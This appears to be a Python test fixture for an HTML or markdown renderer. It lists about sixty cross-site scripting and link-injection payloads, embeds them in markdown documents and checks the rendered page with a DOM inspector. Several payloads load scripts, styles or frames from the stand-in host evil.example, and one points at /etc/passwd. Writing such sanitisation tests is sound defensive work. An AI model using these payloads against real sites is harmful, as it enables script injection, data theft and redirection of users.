"""Texts that would like to be programs."""

from __future__ import annotations

PWN = "window.__pwned=1"

PAYLOADS = [
    f"<script>{PWN}</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={PWN}>",
    '<img src="http://evil.example/pixel.png">',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<body onload={PWN}>",
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    '<iframe src="http://evil.example/"></iframe>',
    "<style>body{display:none !important}</style>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "<base href=http://evil.example/>",
    f'<a href="javascript:{PWN}">click</a>',
    "<form action=http://evil.example><button>send</button></form>",
    f"<input autofocus onfocus={PWN}>",
    f"<details open ontoggle={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<math><mi xlink:href="javascript:{PWN}">x</mi></math>',
    f"<template><script>{PWN}</script></template>",
    f"<noscript><img src=x onerror={PWN}></noscript>",
    f"<marquee onstart={PWN}>x</marquee>",
    f"[a](javascript:{PWN})",
    f"[b](JaVaScRiPt:{PWN})",
    f"[c](java\tscript:{PWN})",
    f"[d](&#106;avascript:{PWN})",
    f"[e](data:text/html,<script>{PWN}</script>)",
    "[f](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"[g](vbscript:{PWN})",
    "[h](file:///etc/passwd)",
    "[i](//evil.example/x)",
    "[j](\\\\evil.example\\x)",
    "[k](https://evil.example/?q=<script>)",
    "[l]: javascript:window.__pwned=1\n[l]",
    f"<javascript:{PWN}>",
    "![m](http://evil.example/pixel.png)",
    f"![n](javascript:{PWN})",
    "![o](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiPjwvc3ZnPg==)",
    f'![p" onerror="{PWN}](x)',
    f"`<script>{PWN}</script>`",
    f"```html\n<script>{PWN}</script>\n```",
    f"```<script>{PWN}</script>\ncode\n```",
    f"| <script>{PWN}</script> | b |\n|---|---|\n| <img src=x onerror={PWN}> | 2 |",
    f"> <script>{PWN}</script>",
    f"- <script>{PWN}</script>\n  - <b onmouseover={PWN}>x</b>",
    f"# <script>{PWN}</script>",
    f'## [x](javascript:{PWN}) " onmouseover="{PWN}',
    f"{{{{constructor.constructor('{PWN}')()}}}}",
    f"${{{PWN}}}",
    f"]]><script>{PWN}</script>",
    f"--><script>{PWN}</script>",
    f"\u202e<script>{PWN}</script>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    ":material/home: :red[red] :streamlit: $\\href{javascript:window.__pwned=1}{x}$",
    f'<a href="http://evil.example" target=_blank onclick="{PWN}">x</a>',
    "<textarea></textarea><script>window.__pwned=1</script>",
]


def document(number: int, payload: str) -> str:
    """A document that carries a payload wherever a document can carry text."""
    flat = payload.replace("\n", " ").replace('"', "'").replace("\\", "/").replace("\t", " ")
    return (
        f'---\nid: HOSTILE-{number}\ntitle: "Hostile {number} {flat}"\nowner: "{flat}"\ntags: ["{flat}"]\nanswers:\n '
        f' - "{flat}"\n---\n'
        f"# Hostile {number} {flat}\n\nhostileword before\n\n{payload}\n\nhostileword after "
        "[next](../it/hostile-0.md)\n"
    )


# Every element of the page, through shadow roots: scripts, frames, handlers and addresses that documents could have
# brought.
INSPECT = """() => {
  const bad = [];
  const walk = (root) => {
    for (const node of root.querySelectorAll("*")) {
      if (node.shadowRoot) walk(node.shadowRoot);
      const inComponent = root instanceof ShadowRoot;
      if (inComponent && ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "IMG", "FORM", "LINK", "META", "BASE", "VIDEO", "SVG", "MATH"].includes(node.tagName.toUpperCase())) bad.push(node.outerHTML.slice(0, 120));
      for (const attribute of node.attributes) {
        if (/^on/i.test(attribute.name)) bad.push(node.outerHTML.slice(0, 120));
        if (["href", "src", "action", "xlink:href"].includes(attribute.name) && /^\\s*(javascript|vbscript|data:text)/i.test(attribute.value)) bad.push(node.outerHTML.slice(0, 120));
      }
    }
  };
  walk(document);
  return bad;
}"""  # noqa: E501
